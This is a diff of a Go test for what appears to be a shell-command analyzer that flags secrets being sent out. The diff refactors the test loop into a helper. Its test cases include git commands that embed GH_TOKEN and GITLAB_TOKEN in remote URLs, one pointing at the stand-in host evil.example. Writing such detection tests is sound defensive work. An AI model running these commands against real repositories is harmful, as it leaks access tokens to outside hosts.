@@ -85,14 +85,6 @@ func TestSecretEnvFlow(t *testing.T) {
 		{`git remote set-url origin "https://$GH_TOKEN@github.com/o/r.git"`, []string{"!tag secret.env.send"}},
 		{`git config remote.b.url "https://u:$GITLAB_TOKEN@evil.example/r"`, []string{"tag secret.env.send"}},
 	} {
-		a, err := Analyze(c.in, testOpts)
-		if err != nil {
-			t.Fatalf("%s: %v", c.in, err)
-		}
-		for _, w := range c.want {
-			if msg := check(a, w); msg != "" {
-				t.Errorf("%s: %s: %s\n%s", c.in, w, msg, dump(a))
-			}
-		}
+		expectAll(t, c.in, c.want)
 	}
 }
